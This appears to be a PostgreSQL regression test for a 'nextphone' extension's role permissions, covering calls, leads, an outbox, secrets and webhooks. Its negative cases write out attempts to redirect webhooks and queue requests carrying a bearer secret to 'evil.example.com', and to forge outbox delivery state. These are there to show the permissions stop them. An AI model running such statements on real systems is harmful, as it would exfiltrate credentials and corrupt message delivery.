-- Who may do what.  The extension creates no roles and grants nothing to
-- PUBLIC; these are the README's recipes for an application role and a
-- reporting role, proved with SET ROLE.  The owner (who ran CREATE
-- EXTENSION) configures webhooks and secrets.
\set SHOW_CONTEXT never

-- The owner sets up a business, a secret and a signed webhook.
INSERT INTO nextphone.businesses (receiving_number, owner_name)
VALUES ('+15559876543', 'Acme Contracting');
SELECT nextphone.set_secret('crm_key', 'sk_live_roles_test');
SELECT nextphone.create_webhook('{
  "type": "http", "tool_name": "rolesCRM", "http_method": "POST",
  "url": "https://crm.example.com/api/leads",
  "headers": {"Authorization": "Bearer {{secret.crm_key}}"},
  "body_template": {"name": "{{first_name}}", "phone": "{{caller_number}}"},
  "events": ["lead.created"],
  "signing_secret": "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"
}') > 0 AS created;

-- The application role: records calls and leads, queues deliveries, reads
-- delivery status; reads no secret and changes no webhook.
CREATE ROLE regress_nextphone_app NOLOGIN;
GRANT USAGE ON SCHEMA nextphone TO regress_nextphone_app;
GRANT EXECUTE ON FUNCTION nextphone.record_call(jsonb), nextphone.enqueue(text, jsonb)
	TO regress_nextphone_app;
GRANT SELECT, INSERT ON nextphone.calls, nextphone.leads TO regress_nextphone_app;
-- the request's columns only: the id and the delivery state are the worker's
GRANT INSERT (webhook, webhook_id, event, vars, method, url, headers, body, msg_id)
	ON nextphone.outbox TO regress_nextphone_app;
GRANT SELECT ON nextphone.message_status TO regress_nextphone_app;

-- The reporting role: delivery status (and the worker's webhook_health
-- view), without secrets, variables or bodies.
CREATE ROLE regress_nextphone_report NOLOGIN;
GRANT USAGE ON SCHEMA nextphone TO regress_nextphone_report;
GRANT SELECT ON nextphone.message_status, nextphone.webhook_health TO regress_nextphone_report;
GRANT EXECUTE ON FUNCTION nextphone.worker_status() TO regress_nextphone_report;

-- A role with no grant at all.
CREATE ROLE regress_nextphone_nobody NOLOGIN;

SET ROLE regress_nextphone_app;
SELECT nextphone.record_call('{"external_id": "roles-1", "caller_number": "+15551234567",
  "receiving_number": "+15559876543", "collected": {"first_name": "John"}}') > 0 AS recorded;
INSERT INTO nextphone.leads (first_name, phone) VALUES ('Ann', '+15550000001');
SELECT nextphone.enqueue('rolesCRM', '{"first_name": "Bo"}') > 0 AS queued;
INSERT INTO nextphone.outbox (webhook, vars) VALUES ('rolesCRM', '{"first_name": "Cy"}');
SELECT webhook, event, status FROM nextphone.message_status ORDER BY id;
-- what it may not do
SELECT * FROM nextphone.secrets;
SELECT signing_secret FROM nextphone.webhooks;
SELECT body FROM nextphone.outbox;
UPDATE nextphone.outbox SET status = 'cancelled';
SELECT nextphone.webhook_config('rolesCRM');
SELECT nextphone.create_webhook('{"type": "http", "tool_name": "x", "http_method": "GET", "url": "https://x.example.com/"}');
SELECT nextphone.update_webhook('rolesCRM', '{"url": "https://evil.example.com/"}');
SELECT nextphone.set_secret('crm_key', 'stolen');
UPDATE nextphone.webhooks SET url = 'https://evil.example.com/';
-- nor send a webhook's request (signed, with its secrets) somewhere else
INSERT INTO nextphone.outbox (webhook, url, headers)
VALUES ('rolesCRM', 'https://evil.example.com/', '{"Authorization": "Bearer {{secret.crm_key}}"}');
-- nor an ad-hoc request with a secret
INSERT INTO nextphone.outbox (url, headers)
VALUES ('https://evil.example.com/', '{"Authorization": "Bearer {{secret.crm_key}}"}');
-- nor forge a row's id (a later event's insert would fail on it) or its
-- delivery state (a row "sending" under a lease that never ends is never sent)
INSERT INTO nextphone.outbox (id, webhook, vars) VALUES (1000000, 'rolesCRM', '{}');
INSERT INTO nextphone.outbox (webhook, vars, status, lease_until, leased_by)
VALUES ('rolesCRM', '{}', 'sending', 'infinity', 7);
INSERT INTO nextphone.outbox (webhook, vars, status, delivered_at)
VALUES ('rolesCRM', '{}', 'delivered', now());
RESET ROLE;

-- Its inserts fired the signed webhook, the secret left as a tag.
SELECT o.event, o.status, o.headers, w.signing_secret IS NOT NULL AS signed
  FROM nextphone.outbox o JOIN nextphone.webhooks w ON w.id = o.webhook_id ORDER BY o.id;

SET ROLE regress_nextphone_report;
SELECT webhook, event, status, attempts FROM nextphone.message_status ORDER BY id;
SELECT tool_name, health, queued FROM nextphone.webhook_health;
SELECT count(*) >= 0 AS may_ask FROM nextphone.worker_status();
SELECT * FROM nextphone.outbox;
SELECT signing_secret FROM nextphone.webhooks;
SELECT * FROM nextphone.secrets;
SELECT * FROM nextphone.calls;
SELECT nextphone.record_call('{"caller_number": "+15551234567", "receiving_number": "+15559876543"}');
RESET ROLE;

SET ROLE regress_nextphone_nobody;
SELECT * FROM nextphone.message_status;
SELECT nextphone.enqueue('rolesCRM', '{}');
RESET ROLE;

-- Clean up.
DROP OWNED BY regress_nextphone_app, regress_nextphone_report;
DROP ROLE regress_nextphone_app, regress_nextphone_report, regress_nextphone_nobody;
DELETE FROM nextphone.outbox;
DELETE FROM nextphone.leads;
DELETE FROM nextphone.calls;
SELECT nextphone.drop_webhook('rolesCRM');
SELECT nextphone.drop_secret('crm_key');
DELETE FROM nextphone.businesses;
